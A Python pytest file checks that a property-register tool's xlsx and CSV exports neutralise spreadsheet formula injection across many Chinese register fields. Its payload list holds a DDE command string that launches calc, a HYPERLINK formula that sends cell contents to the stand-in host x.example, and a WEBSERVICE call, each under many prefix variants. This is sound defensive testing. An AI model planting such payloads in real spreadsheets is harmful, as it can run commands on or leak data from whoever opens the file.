"""What people write into registers stays text in a real spreadsheet program, whatever it looks like."""

import csv
import json
import shutil
import subprocess
import xml.etree.ElementTree as tree

import openpyxl
import pytest
from conftest import GONGZHI, ROOT

BEGINNINGS = ["=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠", " =", "'=", '"=', "　=", "\n=", "%="]
BODIES = [
    "1+1",
    "cmd|'/c calc'!A0",
    'HYPERLINK("http://x.example/?"&A1,"看")',
    'WEBSERVICE("http://x.example/")',
]
PAYLOADS = [beginning + body for beginning in BEGINNINGS for body in BODIES]
COMPLEX = "公式苑"
HOME = ["小区名称", "楼栋", "单元", "房号"]


def cut(text, number, most):
    """Beginning as the payload does, not longer than the field takes, and unlike all others."""
    return text[: most - len(str(number))] + str(number)


# Every register that comes in as a table, with its fields of free text.
REGISTERS = {
    "complexes": (
        ["小区名称", "曾用名", "地址", "东至", "南至", "西至", "北至", "物业类型", "建设单位"],
        lambda n, text: [f"苑{n}{text}"[:60]] + [text] * 8,
    ),
    "enterprises": (
        ["统一社会信用代码", "企业名称", "简称", "地址"],
        lambda n, text: [credit_code(n), f"{text}公司{n}"[:80], text[:20], text],
    ),
    "developers": (
        ["名称", "其他写法", "联系人", "地址"],
        lambda n, text: [f"{text}置业{n}", f"{text}写法{n}", text[:40], text],
    ),
    "engagements": (
        ["小区名称", "统一社会信用代码", "进驻日期", "退出日期", "退出原因"],
        lambda n, text: [COMPLEX, credit_code(900), f"{1950 + n}-01-01", f"{1951 + n}-01-01", text],
    ),
    "contracts": (
        ["合同编号", "小区名称", "统一社会信用代码", "合同类型", "签订日期", "甲方"],
        lambda n, text: [cut(text, n, 40), COMPLEX, credit_code(900), "前期", "2024-05-01", text],
    ),
    "handovers": (
        ["小区名称", "统一社会信用代码", "期", "建设单位"],
        lambda n, text: [COMPLEX, credit_code(900), cut(text, n, 40), text],
    ),
    "property-rooms": (
        ["小区名称", "用房种类", "位置"],
        lambda n, text: [COMPLEX, "门卫室", f"{text}{n}"],
    ),
    "facilities": (
        ["小区名称", "设施种类", "编号", "位置", "维护单位", "状态"],
        lambda n, text: [COMPLEX, "电梯", cut(text, n, 40), text, text, "正常"],
    ),
    "staff": (
        ["小区名称", "姓名", "岗位", "持有证书", "到岗日期"],
        lambda n, text: [COMPLEX, cut(text, n, 40), "保洁", text, "2025-01-01"],
    ),
    "fund-balances": (
        ["小区名称", "截至日期", "余额", "数据来源"],
        lambda n, text: [COMPLEX, f"{1950 + n}-12-31", "1.00", text],
    ),
    "mode-decisions": (
        ["小区名称", "管理方式", "起始日期", "谁定的", "依据"],
        lambda n, text: [COMPLEX, "居民自管", f"{1950 + n}-06-01", text, text],
    ),
    "units": (
        [*HOME, "本地房屋编码"],
        lambda n, text: [COMPLEX, cut(text, n, 30), cut(text, n, 20), cut(text, n, 30), text[:40]],
    ),
    "owners": (
        [*HOME, "业主姓名"],
        lambda n, text: [COMPLEX, "住户楼", "", str(1000 + n), f"{text}{n}"],
    ),
}
# What the register shows of persons without a reason is masked.
WHOLE = {"owners": ["--reveal", "核对公式"]}
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"


def credit_code(number):
    letters = "0123456789ABCDEFGHJKLMNPQRTUWXY"
    head = f"91411502MA9{number:06d}"
    total = sum(letters.index(c) * pow(3, i, 31) for i, c in enumerate(head))
    return head + letters[(31 - total % 31) % 31]


@pytest.fixture(scope="module")
def house(tmp_path_factory):
    folder = tmp_path_factory.mktemp("formulas") / "g"
    run("init", folder, "--rulebook", ROOT / "rulebooks/shihe")
    homes = [[COMPLEX, "住户楼", "", str(1000 + n)] for n, _ in enumerate(PAYLOADS)]
    for kind, rows in [
        ("complexes", [["小区名称"], [COMPLEX]]),
        ("enterprises", [["统一社会信用代码", "企业名称"], [credit_code(900), "公式物业有限公司"]]),
        ("units", [HOME, *homes]),
    ]:
        table(folder / "ground.csv", rows)
        assert run("import", kind, folder / "ground.csv", folder).returncode == 0
    return folder


def table(path, rows):
    with open(path, "w", newline="", encoding="utf-8") as file:
        csv.writer(file).writerows(rows)


def run(*words):
    return subprocess.run([GONGZHI, *map(str, words)], capture_output=True, text=True)


def opened(file, folder):
    """The cells of a table as LibreOffice sees them: how many are formulas, and the texts."""
    subprocess.run(
        ["soffice", "--headless", f"-env:UserInstallation=file://{folder}/office"]
        + ["--infilter=CSV:44,34,76,1,,0,false,true,false"] * (file.suffix == ".csv")
        + ["--convert-to", "fods", "--outdir", str(folder), str(file)],
        check=True, capture_output=True, timeout=180,
    )
    root = tree.parse(folder / (file.stem + ".fods")).getroot()
    formulas = [c for c in root.iter(TABLE + "table-cell") if c.get(TABLE + "formula")]
    texts = {"".join(p.itertext()) for p in root.iter(TEXT + "p")}
    return formulas, texts


@pytest.mark.skipif(not shutil.which("soffice"), reason="needs libreoffice-calc-nogui")
@pytest.mark.parametrize("kind", REGISTERS)
def test_nothing_that_goes_out_is_a_formula_and_it_comes_in_again(house, tmp_path, kind):
    head, row = REGISTERS[kind]
    came = tmp_path / "came.csv"
    table(came, [head] + [row(n, text) for n, text in enumerate(PAYLOADS)])
    taken = json.loads(run("import", kind, came, house, "--json").stdout)
    assert taken["counts"]["added"] == len(PAYLOADS), taken["problems"][:3]

    for ending in ["xlsx", "csv"]:
        out = tmp_path / f"out-{ending}.{ending}"
        assert run("export", kind, out, house, *WHOLE.get(kind, [])).returncode == 0
        formulas, texts = opened(out, tmp_path)
        assert formulas == []
        if ending == "xlsx":
            cells = [c.value for line in openpyxl.load_workbook(out).active.iter_rows() for c in line]
            written = {c for c in cells if isinstance(c, str) and "calc" in c}
            assert len(written) >= len(BEGINNINGS) // 2
            assert written <= texts
        again = json.loads(run("import", kind, out, house, "--json").stdout)
        # What the house had before is among them.
        assert again["counts"]["unchanged"] == again["rows"] >= len(PAYLOADS), again["problems"][:3]
